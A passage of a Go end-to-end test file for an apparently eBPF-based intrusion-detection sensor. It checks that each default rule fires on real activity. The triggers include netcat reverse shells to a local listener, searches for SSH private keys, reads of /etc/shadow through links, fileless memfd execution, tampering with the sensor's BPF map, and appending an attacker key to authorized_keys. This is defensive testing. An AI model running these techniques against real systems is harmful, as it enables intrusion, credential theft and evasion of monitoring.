package main

// Privileged end-to-end tests of the default rules: every rule of
// rules/default/vigil_rules.yaml is triggered by real activity on this
// kernel (real processes, files, sockets and containers) and must be
// reported by a running agent with its name, priority and output fields;
// one benign activity per rule must not be reported. The host rules share
// one agent, the container rules another one and one containerd.
//
// Stand-ins, where the real tool is not on a Debian machine by default:
//   - netcat is busybox's nc applet, run through a link named nc (what
//     Debian's netcat-traditional and busybox installs look like to the
//     kernel: comm "nc");
//   - the package manager in the container is busybox's dpkg applet, which
//     the test image links as /usr/bin/dpkg;
//   - fexecve from a memfd and of an unlinked file is done by this test
//     binary re-executed in a helper mode (helperMain), which then runs a
//     copy of /bin/true.
//
// The outbound-connection rule ignores loopback, so its reverse shell
// connects to 192.0.2.1 (TEST-NET-1) held on the loopback device of a
// network namespace the test creates: nothing leaves that namespace.

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"golang.org/x/sys/unix"

	"github.com/vigil-sensor/vigil/enrich"
	"github.com/vigil-sensor/vigil/event"
	"github.com/vigil-sensor/vigil/internal/agenttest"
	"github.com/vigil-sensor/vigil/internal/containerdtest"
	"github.com/vigil-sensor/vigil/internal/testutil"
	"github.com/vigil-sensor/vigil/rules"
)

// Helper modes of the test binary (see TestMain).
const (
	helperEnv = "VIGIL_E2E_HELPER"
	// helperMemfd copies /bin/true into a memfd and runs it with fexecve
	// (execveat with AT_EMPTY_PATH), with the helper's arguments.
	helperMemfd = "memfd"
	// helperDeleted copies /bin/true to the path given as first argument,
	// opens it, unlinks it and runs it with fexecve.
	helperDeleted = "deleted"
)

// helperMain runs the helper mode named by $VIGIL_E2E_HELPER and returns the
// exit code; on success it does not return.
func helperMain(mode string, args []string) int {
	if code, ok := fileAccessHelper(mode, args); ok {
		return code
	}
	argv := append([]string{"vigil-e2e-payload"}, args...)
	switch mode {
	case helperMemfd:
		fmt.Fprintln(os.Stderr, testutil.ExecMemfd("vigil-e2e-payload", "/bin/true", argv, os.Environ()))
	case helperPriv:
		return privHelper(args)
	case helperDeleted:
		if len(args) == 0 {
			fmt.Fprintln(os.Stderr, "deleted: no path")
			return 2
		}
		path := args[0]
		argv = append(argv[:1], args[1:]...)
		payload, err := os.ReadFile("/bin/true")
		if err == nil {
			err = os.WriteFile(path, payload, 0o755)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, err)
			return 2
		}
		fd, err := unix.Open(path, unix.O_RDONLY, 0)
		if err == nil {
			err = unix.Unlink(path)
		}
		if err != nil {
			fmt.Fprintln(os.Stderr, "opening and unlinking payload:", err)
			return 2
		}
		fmt.Fprintln(os.Stderr, testutil.Fexecve(fd, argv, os.Environ()))
	default:
		fmt.Fprintln(os.Stderr, "unknown helper mode", mode)
	}
	return 2
}

// defaultRulesFile is the file the default rules are embedded from.
const defaultRulesFile = "../../rules/default/vigil_rules.yaml"

// markerRule fires on the exec of `true vigil-e2e-marker`: a point in the
// alert stream that bounds expectNoAlert without streaming every event.
const (
	markerRule  = "vigil e2e marker"
	markerToken = "vigil-e2e-marker"
	markerRules = `
- rule: vigil e2e marker
  desc: A point in the alert stream for vigil's end-to-end tests.
  condition: evt.type in (execve, execveat) and proc.name = true and proc.args = vigil-e2e-marker
  output: marker (pid=%proc.pid container=%container.id name=%container.name)
  priority: DEBUG
  tags: [test]
`
)

// defaultRulesArgs returns `vigil run` arguments that load the default
// rules (the embedded file, checked identical) followed by the marker rule.
func defaultRulesArgs(t *testing.T) []string {
	t.Helper()
	data, err := os.ReadFile(defaultRulesFile)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(data, rules.Default().Data) {
		t.Fatalf("%s differs from the embedded default rules", defaultRulesFile)
	}
	return []string{"--rules", defaultRulesFile, "--rules", markerRulesFile(t)}
}

// markerRulesFile writes the marker rule to a file for --rules.
func markerRulesFile(t *testing.T) string {
	t.Helper()
	marker := filepath.Join(t.TempDir(), "marker.yaml")
	if err := os.WriteFile(marker, []byte(markerRules), 0o644); err != nil {
		t.Fatal(err)
	}
	return marker
}

// mark runs the marker process on the host and returns its pid.
func mark(t *testing.T) int {
	return runCommand(t, "true", markerToken)
}

// fields are an alert's output fields: the values the tests expect, or
// the values that identify an alert. A value of type contains matches
// strings that contain it; any other value is compared as text.
type fields map[string]any

// contains matches a string field holding the substring.
type contains string

func (f fields) match(got map[string]any, keys []string) bool {
	for _, k := range keys {
		if !valueMatches(got[k], f[k]) {
			return false
		}
	}
	return true
}

func valueMatches(got, want any) bool {
	if sub, ok := want.(contains); ok {
		s, isStr := got.(string)
		return isStr && strings.Contains(s, string(sub))
	}
	if got == nil || want == nil {
		return got == want
	}
	return fmt.Sprint(got) == fmt.Sprint(want)
}

func (f fields) keys() []string {
	var ks []string
	for k := range f {
		ks = append(ks, k)
	}
	slices.Sort(ks)
	return ks
}

// alert is an expected alert: the fields in key identify it among the
// agent's other alerts, every field in want is then checked.
type alert struct {
	key  []string
	want fields
}

// ruleTest is one default rule: real activity that must trigger it and
// benign activity that must not.
type ruleTest struct {
	rule, priority string
	// trigger does the activity and returns the alerts it must cause.
	trigger func(t *testing.T) []alert
	// benign does the activity and returns what an alert of the rule
	// about it would carry (key fields only).
	benign func(t *testing.T) []alert
}

// expectAlert waits for an alert of rule matching want.key and checks its
// priority and want.want. On timeout it lists the near misses it saw: alerts
// of the rule about something else, and alerts of other rules about the
// same thing (the agent reports only the first rule that matches).
func expectAlert(t *testing.T, a *agenttest.Agent, rule, priority string, want alert) agenttest.Line {
	t.Helper()
	deadline := time.Now().Add(agenttest.LineTimeout)
	var near []string
	for {
		r, ok := a.Next(t, deadline)
		if !ok {
			t.Fatalf("%s: no alert with %v in %v; near misses: %q", rule, want.want, agenttest.LineTimeout, near)
		}
		same := want.want.match(r.OutputFields, want.key)
		if r.Rule != rule || !same {
			if r.Rule == rule || same && r.Source == "syscall" && r.Rule != markerRule {
				near = append(near, r.Output)
			}
			continue
		}
		if r.Priority != priority {
			t.Errorf("%s: priority %q, want %q", rule, r.Priority, priority)
		}
		for _, k := range want.want.keys() {
			if got := r.OutputFields[k]; !valueMatches(got, want.want[k]) {
				t.Errorf("%s: %s = %v, want %v (alert: %s)", rule, k, got, want.want[k], r.Output)
			}
		}
		return r
	}
}

// expectNoAlert checks that no alert of rule matching benign.key arrives
// before the marker, run after the activity under test: the ring buffer
// keeps the order in which records were reserved, and the activity ended
// before the marker started.
func expectNoAlert(t *testing.T, a *agenttest.Agent, rule string, benign alert) {
	t.Helper()
	pid := int64(mark(t))
	a.ExpectNone(t, "benign activity of "+rule,
		func(r agenttest.Line) bool { return r.Rule == rule && benign.want.match(r.OutputFields, benign.key) },
		func(r agenttest.Line) bool {
			return r.Rule == markerRule && agenttest.Int(r.OutputFields["proc.pid"]) == pid
		})
}

// runRuleTests runs the tests of a rule table against a.
func runRuleTests(t *testing.T, a *agenttest.Agent, tests []ruleTest) {
	for _, tt := range tests {
		t.Run(strings.ReplaceAll(tt.rule, " ", "_"), func(t *testing.T) {
			for _, want := range tt.trigger(t) {
				expectAlert(t, a, tt.rule, tt.priority, want)
			}
			for _, benign := range tt.benign(t) {
				expectNoAlert(t, a, tt.rule, benign)
			}
		})
	}
}

// randToken returns a short random hex string that makes names unique.
func randToken() string {
	var b [4]byte
	rand.Read(b[:])
	return hex.EncodeToString(b[:])
}

// runEnv runs a command with extra environment to completion and returns
// its pid; a non-zero exit is not an error (the tests look at what the
// process did, not how it ended).
func runEnv(t *testing.T, env []string, name string, args ...string) int {
	t.Helper()
	return runChild(t, env, false, name, args...)
}

// runOK is runEnv for activity that must succeed: a benign activity that
// failed would prove nothing.
func runOK(t *testing.T, env []string, name string, args ...string) int {
	t.Helper()
	return runChild(t, env, true, name, args...)
}

// runChild runs a command with extra environment, within 20s, and returns
// its pid. A non-zero exit fails the test if mustSucceed.
func runChild(t *testing.T, env []string, mustSucceed bool, name string, args ...string) int {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, name, args...)
	cmd.Env = append(os.Environ(), env...)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = io.Discard, &out
	if mustSucceed {
		cmd.Stdout = &out
	}
	if err := cmd.Run(); err != nil {
		var exit *exec.ExitError
		if mustSucceed || !errors.As(err, &exit) || ctx.Err() != nil {
			t.Fatalf("running %s %q: %v: %s", name, args, err, out.String())
		}
	}
	return cmd.Process.Pid
}

// runArgv0 runs path with argv[0] set to argv0, as `exec -a` does (the
// comm is still the file's name), to completion, and returns its pid.
func runArgv0(t *testing.T, path, argv0 string, args ...string) int {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, path, args...)
	cmd.Args[0] = argv0
	if err := cmd.Run(); err != nil {
		var exit *exec.ExitError
		if !errors.As(err, &exit) || ctx.Err() != nil {
			t.Fatalf("running %s as %s %q: %v", path, argv0, args, err)
		}
	}
	return cmd.Process.Pid
}

// tempDir makes a directory below parent, removed when the test ends.
func tempDir(t *testing.T, parent string) string {
	t.Helper()
	dir, err := os.MkdirTemp(parent, "vigil-e2e-")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

// removeAfter removes path when the test ends.
func removeAfter(t *testing.T, path string) string {
	t.Cleanup(func() { os.RemoveAll(path) })
	return path
}

func copyFile(t *testing.T, src, dst string, mode os.FileMode) {
	t.Helper()
	data, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, data, mode); err != nil {
		t.Fatal(err)
	}
}

// hostEnv is what the host rule tests share.
type hostEnv struct {
	tmp   string // a directory below /tmp
	home  string // a fake home with .ssh
	bin   string // a link to busybox named nc
	token string
	netns string // a network namespace with 192.0.2.1 on lo
	// shellAddr (192.0.2.1:port, in netns) plays an attacker's handler
	// of reverse shells; svcAddr (same address) a service; lo is a local
	// service on the host's loopback.
	shellAddr, svcAddr         string
	lo                         net.Listener
	shellConn, svcConn, loConn <-chan struct{}
	// agent is the pid of the agent under test, whose BPF maps the
	// tampering test writes.
	agent int
}

// loader is the dynamic loader the temporary-directory test runs a binary
// with, by the path the x86-64 psABI fixes.
const loader = "/lib64/ld-linux-x86-64.so.2"

// netnsAddr is the address the outbound-connection test connects to,
// held by the test's own network namespace.
const netnsAddr = "192.0.2.1"

func TestDefaultRulesHost(t *testing.T) {
	testutil.RequireRoot(t)
	busybox := testutil.RequireCommand(t, "busybox")
	for _, c := range []string{"ip", "bash", "sh", "truncate", "find", "grep", "touch", "cp", "cat", "chage", "dpkg", "bpftool", "unshare", "mount"} {
		testutil.RequireCommand(t, c)
	}
	if _, err := os.Stat(loader); err != nil {
		t.Skipf("no dynamic loader at %s: %v", loader, err)
	}
	env := &hostEnv{tmp: tempDir(t, "/tmp"), token: randToken()}
	env.home = filepath.Join(env.tmp, "home")
	env.bin = filepath.Join(env.tmp, "bin")
	for _, d := range []string{filepath.Join(env.home, ".ssh"), env.bin} {
		if err := os.MkdirAll(d, 0o700); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(busybox, filepath.Join(env.bin, "nc")); err != nil {
		t.Fatal(err)
	}
	env.setupNetwork(t)

	a := startAgent(t, defaultRulesArgs(t)...)
	env.agent = a.PID()
	runRuleTests(t, a, hostRuleTests(env))
}

// setupNetwork creates the network namespace and its listeners, and a
// loopback listener on the host.
func (env *hostEnv) setupNetwork(t *testing.T) {
	t.Helper()
	env.netns = "vigil-e2e-" + env.token
	ipCmd := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("ip", args...).CombinedOutput(); err != nil {
			t.Fatalf("ip %s: %v: %s", strings.Join(args, " "), err, out)
		}
	}
	ipCmd("netns", "add", env.netns)
	t.Cleanup(func() { exec.Command("ip", "netns", "delete", env.netns).Run() })
	ipCmd("-n", env.netns, "link", "set", "lo", "up")
	ipCmd("-n", env.netns, "addr", "add", netnsAddr+"/32", "dev", "lo")

	shellLn := listenInNetns(t, "/run/netns/"+env.netns, netnsAddr+":0")
	env.shellAddr = shellLn.Addr().String()
	env.shellConn = serve(shellLn, exitShell)
	svcLn := listenInNetns(t, "/run/netns/"+env.netns, netnsAddr+":0")
	env.svcAddr = svcLn.Addr().String()
	env.svcConn = serve(svcLn, hangUp)

	lo, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	env.lo = lo
	env.loConn = serve(lo, hangUp)
	t.Cleanup(func() { lo.Close() })
}

// exitShell is the handler of a reverse shell: it tells the shell to exit.
func exitShell(c net.Conn) {
	io.WriteString(c, "exit\n")
	io.Copy(io.Discard, c)
}

// hangUp closes the connection at once.
func hangUp(net.Conn) {}

// serve accepts connections until ln is closed and handles each, then
// closes it. The channel receives a value per accepted connection, so a
// test can check that its activity really connected.
func serve(ln net.Listener, handle func(net.Conn)) <-chan struct{} {
	accepted := make(chan struct{}, 64)
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			select {
			case accepted <- struct{}{}:
			default:
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(20 * time.Second))
				handle(c)
			}()
		}
	}()
	return accepted
}

// waitConn waits for a connection accepted by a listener of serve.
func waitConn(t *testing.T, accepted <-chan struct{}, what string) {
	t.Helper()
	select {
	case <-accepted:
	case <-time.After(10 * time.Second):
		t.Fatalf("%s: the listener accepted no connection", what)
	}
}

// drain empties accepted of connections made before the activity under test.
func drain(accepted <-chan struct{}) {
	for {
		select {
		case <-accepted:
		default:
			return
		}
	}
}

// listenInNetns opens a TCP listener inside the network namespace at
// nsPath: the socket is created on an OS thread switched into the
// namespace, which is switched back (or, if that fails, left locked so it
// dies with its goroutine).
func listenInNetns(t *testing.T, nsPath, addr string) net.Listener {
	t.Helper()
	type result struct {
		ln  net.Listener
		err error
	}
	done := make(chan result, 1)
	go func() {
		runtime.LockOSThread()
		orig, err := os.Open("/proc/thread-self/ns/net")
		if err != nil {
			runtime.UnlockOSThread()
			done <- result{err: err}
			return
		}
		defer orig.Close()
		target, err := os.Open(nsPath)
		if err != nil {
			runtime.UnlockOSThread()
			done <- result{err: err}
			return
		}
		defer target.Close()
		if err := unix.Setns(int(target.Fd()), unix.CLONE_NEWNET); err != nil {
			runtime.UnlockOSThread()
			done <- result{err: fmt.Errorf("entering %s: %w", nsPath, err)}
			return
		}
		ln, lerr := net.Listen("tcp4", addr)
		if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
			// The thread stays locked and ends with this goroutine.
			if ln != nil {
				ln.Close()
			}
			done <- result{err: fmt.Errorf("leaving %s: %w", nsPath, err)}
			return
		}
		runtime.UnlockOSThread()
		done <- result{ln: ln, err: lerr}
	}()
	res := <-done
	if res.err != nil {
		t.Fatalf("listening in network namespace: %v", res.err)
	}
	t.Cleanup(func() { res.ln.Close() })
	return res.ln
}

// hostRuleTests are the default rules that apply to host processes (they
// apply to containers too; the container tests cover the container-only
// rules).
func hostRuleTests(env *hostEnv) []ruleTest {
	// plain runs a program from the disk that no rule cares about, with a
	// unique argument, and returns the key of an alert about it.
	plain := func(t *testing.T) []alert {
		arg := "benign-" + randToken()
		runOK(t, nil, "/usr/bin/true", arg)
		return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "true " + arg}}}
	}
	// catFile reads a file with cat.
	catFile := func(t *testing.T, path string) []alert {
		runOK(t, []string{"HOME=" + env.home}, "cat", path)
		return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "cat " + path}}}
	}
	return []ruleTest{
		{rule: "Fileless Execution via memfd", priority: "Critical",
			trigger: func(t *testing.T) []alert {
				arg := "memfd-" + randToken()
				runEnv(t, []string{helperEnv + "=" + helperMemfd}, os.Args[0], arg)
				// Started by a shell named runc (a link to bash): runc's
				// exemption keys on the runtime's executable, not its name.
				runc := filepath.Join(env.bin, "runc")
				if err := os.Symlink("/bin/bash", runc); err != nil && !errors.Is(err, os.ErrExist) {
					t.Fatal(err)
				}
				runcArg := "memfd-runc-" + randToken()
				runEnv(t, []string{helperEnv + "=" + helperMemfd}, runc, "-c", os.Args[0]+" "+runcArg+"; true")
				return []alert{
					{key: []string{"proc.cmdline"}, want: fields{
						"proc.cmdline": contains(" " + arg), "proc.exepath": contains("memfd:vigil-e2e-payload"),
						"evt.arg.flags": contains("EXE_FROM_MEMFD"), "user.uid": 0, "container.id": "host",
					}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains(" " + runcArg), "proc.pname": "runc"}},
				}
			},
			benign: plain},
		{rule: "Execution of Deleted Binary", priority: "Critical",
			trigger: func(t *testing.T) []alert {
				// A dropper's usual form: written to /tmp, opened,
				// unlinked, run with fexecve.
				arg := "deleted-" + randToken()
				path := filepath.Join(env.tmp, "payload-"+arg)
				runEnv(t, []string{helperEnv + "=" + helperDeleted}, os.Args[0], path, arg)
				return []alert{{key: []string{"proc.cmdline"}, want: fields{
					"proc.cmdline": contains(" " + arg), "proc.exepath": contains(path),
					"container.id": "host",
				}}}
			},
			benign: plain},
		{rule: "Netcat or Socat Reverse Shell", priority: "Critical",
			trigger: func(t *testing.T) []alert {
				// nc -e hands a shell to the listener, which tells it to
				// exit (busybox's nc takes -e PROG last).
				ln, err := net.Listen("tcp4", "127.0.0.1:0")
				if err != nil {
					t.Fatal(err)
				}
				defer ln.Close()
				accepted := serve(ln, exitShell)
				port := fmt.Sprint(ln.Addr().(*net.TCPAddr).Port)
				runOK(t, nil, filepath.Join(env.bin, "nc"), "127.0.0.1", port, "-e", "/bin/sh")
				waitConn(t, accepted, "nc -e")
				// The rule judges the command line at exec, so these need
				// not connect: -e among other short options, and -e after
				// more arguments than the sensor reads.
				runCommand(t, filepath.Join(env.bin, "nc"), "-ve", "/bin/sh", "127.0.0.1", "1")
				long := []string{"-w", "7"}
				for len(strings.Join(long, " ")) < 5000 {
					long = append(long, "-v")
				}
				runCommand(t, filepath.Join(env.bin, "nc"), append(long, "-e", "/bin/sh", "127.0.0.1", "1")...)
				// Whatever the comm: busybox's applet is argv[1] after
				// "busybox", or argv[0] (exec -a nc).
				runCommand(t, "busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "2")
				runArgv0(t, "/usr/bin/busybox", "nc", "-e", "/bin/sh", "127.0.0.1", "3")
				return []alert{
					{key: []string{"proc.cmdline"}, want: fields{
						"proc.cmdline": "nc 127.0.0.1 " + port + " -e /bin/sh", "container.id": "host",
					}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -ve /bin/sh 127.0.0.1 1"}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains("nc -w 7 -v -v -v")}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox nc -e /bin/sh 127.0.0.1 2", "proc.exepath": "/usr/bin/busybox"}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "busybox -e /bin/sh 127.0.0.1 3", "proc.exe": "nc"}},
				}
			},
			benign: func(t *testing.T) []alert {
				port := fmt.Sprint(env.lo.Addr().(*net.TCPAddr).Port)
				drain(env.loConn)
				runOK(t, nil, filepath.Join(env.bin, "nc"), "-w", "2", "127.0.0.1", port)
				waitConn(t, env.loConn, "nc")
				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "nc -w 2 127.0.0.1 " + port}}}
			}},
		{rule: "Search for Private Keys or Credentials", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				runCommand(t, "find", env.home, "-name", "id_rsa")
				runCommand(t, "grep", "-rl", "BEGIN OPENSSH", env.home)
				return []alert{
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "find " + env.home + " -name id_rsa", "container.id": "host"}},
					{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "grep -rl BEGIN OPENSSH " + env.home}},
				}
			},
			benign: func(t *testing.T) []alert {
				runOK(t, nil, "find", env.home, "-name", "*.go")
				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "find " + env.home + " -name *.go"}}}
			}},
		{rule: "Execution from Temporary Directory", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				arg := "tmp-" + randToken()
				path := filepath.Join(env.tmp, "payload")
				copyFile(t, "/bin/true", path, 0o755)
				runCommand(t, path, arg)
				// What an interpreter or the loader runs for the caller
				// (proc.target): a #! script run directly, the same
				// script given to sh and bash, and a binary given to
				// the dynamic loader.
				script := filepath.Join(env.tmp, "s-"+env.token+".sh")
				if err := os.WriteFile(script, []byte("#!/bin/sh\nexit 0\n"), 0o755); err != nil {
					t.Fatal(err)
				}
				runOK(t, nil, script)
				runOK(t, nil, "sh", script)
				runOK(t, nil, "bash", script)
				ldArg := "ld-" + randToken()
				runOK(t, nil, loader, path, ldArg)
				return []alert{
					{key: []string{"proc.exepath", "proc.cmdline"}, want: fields{
						"proc.exepath": path, "proc.cmdline": "payload " + arg, "user.uid": 0,
					}},
					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
						"proc.target": script, "proc.cmdline": "s-" + env.token + ".sh " + script, "proc.exepath": "/usr/bin/dash",
					}},
					{key: []string{"proc.target", "proc.cmdline"}, want: fields{"proc.target": script, "proc.cmdline": "sh " + script}},
					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
						"proc.target": script, "proc.cmdline": "bash " + script, "proc.exepath": "/usr/bin/bash",
					}},
					{key: []string{"proc.target", "proc.cmdline"}, want: fields{
						"proc.target": path, "proc.cmdline": contains(path + " " + ldArg),
						"proc.exepath": contains("/" + filepath.Base(loader)),
					}},
				}
			},
			benign: func(t *testing.T) []alert {
				// A command string that names a file in /tmp is not a
				// file the shell runs.
				arg := "benign-" + randToken()
				runOK(t, nil, "sh", "-c", "/usr/bin/true "+env.tmp+"/x", arg)
				return append(plain(t), alert{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": contains(arg)}})
			}},
		{rule: "Execution from Unresolvable Path", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				// 70 directories deep: past the 64 components the
				// kernel's walk follows.
				dir := env.tmp
				for range 70 {
					dir = filepath.Join(dir, "a")
				}
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				path := filepath.Join(dir, "deep")
				copyFile(t, "/bin/true", path, 0o755)
				arg := "deep-" + randToken()
				runCommand(t, path, arg)
				return []alert{{key: []string{"proc.cmdline"}, want: fields{
					"proc.cmdline": "deep " + arg, "proc.exepath": contains("/a/a/deep"),
				}}}
			},
			benign: func(t *testing.T) []alert {
				// Deep, but within the walk: where it is is known.
				dir := "/var/tmp"
				for range 20 {
					dir = filepath.Join(dir, "a")
				}
				dir = strings.Replace(dir, "/var/tmp/a", removeAfter(t, "/var/tmp/vigil-e2e-deep-"+env.token), 1)
				if err := os.MkdirAll(dir, 0o755); err != nil {
					t.Fatal(err)
				}
				path := filepath.Join(dir, "deep")
				copyFile(t, "/bin/true", path, 0o755)
				arg := "deep-" + randToken()
				runCommand(t, path, arg)
				return []alert{{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "deep " + arg}}}
			}},
		{rule: "Tampering with vigil's BPF Objects", priority: "Critical",
			trigger: func(t *testing.T) []alert {
				kinds := agentMap(t, env.agent, "kinds")
				defer kinds.Close()
				id := mapID(t, kinds)
				// bpftool writes exec's switch with the value it has:
				// the agent is not blinded, and it is still a write.
				var on uint32
				if err := kinds.Lookup(uint32(event.KindExec), &on); err != nil {
					t.Fatal(err)
				}
				runOK(t, nil, "bpftool", "map", "update", "id", fmt.Sprint(id), "key", "1", "0", "0", "0",
					"value", fmt.Sprint(on), "0", "0", "0")
				return []alert{{key: []string{"proc.name", "bpf.target_id"}, want: fields{
					"proc.name": "bpftool", "bpf.target_id": id, "bpf.target_type": "map",
					"evt.arg.cmd": "BPF_MAP_UPDATE_ELEM", "proc.exepath": contains("/bpftool"), "evt.res": "SUCCESS",
				}}}
			},
			benign: func(t *testing.T) []alert {
				// A write to and a read of a map that is not vigil's, and a
				// read of vigil's.
				other, err := ebpf.NewMap(&ebpf.MapSpec{Type: ebpf.Array, KeySize: 4, ValueSize: 4, MaxEntries: 1})
				if err != nil {
					t.Fatal(err)
				}
				defer other.Close()
				otherID := mapID(t, other)
				runOK(t, nil, "bpftool", "map", "update", "id", fmt.Sprint(otherID), "key", "0", "0", "0", "0",
					"value", "1", "0", "0", "0")
				runOK(t, nil, "bpftool", "map", "dump", "id", fmt.Sprint(otherID))
				kinds := agentMap(t, env.agent, "kinds")
				defer kinds.Close()
				runOK(t, nil, "bpftool", "map", "dump", "id", fmt.Sprint(mapID(t, kinds)))
				return []alert{{key: []string{"proc.name"}, want: fields{"proc.name": "bpftool"}}}
			}},
		{rule: "Execution from Shared Memory", priority: "Error",
			trigger: func(t *testing.T) []alert {
				path := removeAfter(t, "/dev/shm/vigil-e2e-"+env.token)
				copyFile(t, "/bin/true", path, 0o755)
				runCommand(t, path)
				return []alert{{key: []string{"proc.exepath"}, want: fields{"proc.exepath": path, "user.uid": 0}}}
			},
			benign: plain},
		{rule: "Read Shadow or Sudoers File", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				runCommand(t, "cat", "/etc/shadow")
				// Exemptions name executables by their resolved path, not
				// by the name the caller gives: cat through a link named
				// sshd, and cat run by a shell through a link named apt
				// (a package manager's descendants are exempt), both fire.
				dir := tempDir(t, env.tmp)
				sshd, apt := filepath.Join(dir, "sshd"), filepath.Join(dir, "apt")
				for link, target := range map[string]string{sshd: "/usr/bin/cat", apt: "/usr/bin/bash"} {
					if err := os.Symlink(target, link); err != nil {
						t.Fatal(err)
					}
				}
				runCommand(t, sshd, "/etc/shadow")
				runCommand(t, apt, "-c", "cat /etc/shadow; true")
				// A file handle names no path: open_by_handle_at.
				byHandle := openByHandleTrigger(t)
				// Files count by what the kernel reached: a symlink the
				// caller names otherwise still reads /etc/shadow.
				notes := filepath.Join(dir, "notes")
				if err := os.Symlink("/etc/shadow", notes); err != nil {
					t.Fatal(err)
				}
				runCommand(t, "cat", notes)
				// And by identity: a hard link, a bind mount of /etc.
				byIdentity := identityTriggers(t, env)
				return append([]alert{
					{key: []string{"fd.name", "proc.cmdline"}, want: fields{
						"fd.name": "/etc/shadow", "proc.name": "cat", "proc.cmdline": "cat /etc/shadow", "user.uid": 0,
					}},
					{key: []string{"fd.name", "proc.cmdline"}, want: fields{"fd.name": "/etc/shadow", "proc.cmdline": "sshd /etc/shadow"}},
					{key: []string{"fd.name", "proc.cmdline", "proc.pname"}, want: fields{
						"fd.name": "/etc/shadow", "proc.cmdline": "cat /etc/shadow", "proc.pname": "apt",
					}},
					byHandle,
					{key: []string{"fd.name", "proc.cmdline"}, want: fields{
						"fd.name": notes, "fd.realpath": "/etc/shadow", "proc.cmdline": "cat " + notes,
					}},
				}, byIdentity...)
			},
			benign: func(t *testing.T) []alert {
				// chage reads /etc/shadow by trade (exempt by its path), and
				// so may what dpkg runs (a hook here, as for maintainer
				// scripts).
				runOK(t, nil, "chage", "-l", "root")
				runOK(t, nil, "dpkg", "--pre-invoke=cat /etc/shadow", "--configure", "-a")
				return append(append(catFile(t, "/etc/hostname"),
					alert{key: []string{"proc.cmdline"}, want: fields{"proc.cmdline": "chage -l root"}},
					alert{key: []string{"fd.name", "proc.pname"}, want: fields{"fd.name": "/etc/shadow", "proc.pname": "sh"}}),
					identityBenign(t, env)...)
			}},
		{rule: "Read SSH Private Key", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				key := filepath.Join(env.home, ".ssh", "id_ed25519")
				os.WriteFile(key, []byte("-----BEGIN OPENSSH PRIVATE KEY-----\nnot a key\n-----END OPENSSH PRIVATE KEY-----\n"), 0o600)
				os.WriteFile(key+".pub", []byte("ssh-ed25519 AAAA vigil-e2e\n"), 0o644)
				catFile(t, key)
				return []alert{{key: []string{"fd.name", "proc.name"}, want: fields{"fd.name": key, "proc.name": "cat"}}}
			},
			benign: func(t *testing.T) []alert {
				return catFile(t, filepath.Join(env.home, ".ssh", "id_ed25519.pub"))
			}},
		{rule: "Write Below Binary Directory", priority: "Error",
			trigger: func(t *testing.T) []alert {
				path := removeAfter(t, "/usr/local/bin/vigil-e2e-"+env.token)
				runCommand(t, "cp", "/bin/true", path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "cp"}}}
			},
			benign: func(t *testing.T) []alert { return catFile(t, "/usr/bin/true") }},
		{rule: "Write Below Library Directory", priority: "Error",
			trigger: func(t *testing.T) []alert {
				path := removeAfter(t, "/usr/local/lib/vigil-e2e-"+env.token+".so")
				runCommand(t, "touch", path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "touch"}}}
			},
			benign: func(t *testing.T) []alert {
				// Python's bytecode cache below a library directory.
				dir := removeAfter(t, "/usr/local/lib/vigil-e2e-"+env.token)
				if err := os.MkdirAll(filepath.Join(dir, "__pycache__"), 0o755); err != nil {
					t.Fatal(err)
				}
				path := filepath.Join(dir, "__pycache__", "mod.cpython-311.pyc")
				runOK(t, nil, "touch", path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path}}}
			}},
		{rule: "Modify SSH Authorized Keys", priority: "Warning",
			trigger: func(t *testing.T) []alert {
				path := filepath.Join(env.home, ".ssh", "authorized_keys")
				runCommand(t, "sh", "-c", "echo 'ssh-ed25519 AAAA attacker' >> "+path)
				return []alert{{key: []string{"fd.name"}, want: fields{"fd.name": path, "proc.name": "sh"}}}
			},
